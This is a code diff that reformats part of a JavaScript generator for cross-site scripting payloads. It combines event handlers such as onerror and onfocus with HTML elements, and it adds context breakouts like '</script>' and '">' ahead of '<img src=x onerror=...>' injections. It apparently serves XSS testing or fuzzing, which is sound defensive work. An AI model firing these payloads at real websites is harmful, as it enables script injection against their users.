@@ -35,12 +35,39 @@ const tags = [
   `<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">${act}</html:script>`,
 ];
 
-const events = "onerror onload onfocus onmouseover onclick onpointerenter ontoggle onanimationstart onbegin oncut onscroll".split(" ");
-const elements = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "marquee", "select autofocus", "x tabindex=1 autofocus"];
+const events =
+  "onerror onload onfocus onmouseover onclick onpointerenter ontoggle onanimationstart onbegin oncut onscroll".split(
+    " ",
+  );
+const elements = [
+  "img src=x",
+  "svg",
+  "body",
+  "input autofocus",
+  "details open",
+  "video src=x",
+  "audio src=x",
+  "marquee",
+  "select autofocus",
+  "x tabindex=1 autofocus",
+];
 const attributes = elements.flatMap((element) => events.map((event) => `<${element} ${event}=${bare}>`));
 
 /** Out of where a template may have put the text. */
-const breakouts = [`">`, `'>`, "`>", `"/>`, "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", `" onfocus=${bare} autofocus x="`, `' onerror=${bare} x='`];
+const breakouts = [
+  `">`,
+  `'>`,
+  "`>",
+  `"/>`,
+  "-->",
+  "]]>",
+  "</title>",
+  "</textarea>",
+  "</style>",
+  "</script>",
+  `" onfocus=${bare} autofocus x="`,
+  `' onerror=${bare} x='`,
+];
 const outOf = breakouts.map((out) => `${out}<img src=x onerror=${bare}>`);
 
 /** In languages that somebody may think the text is in. */
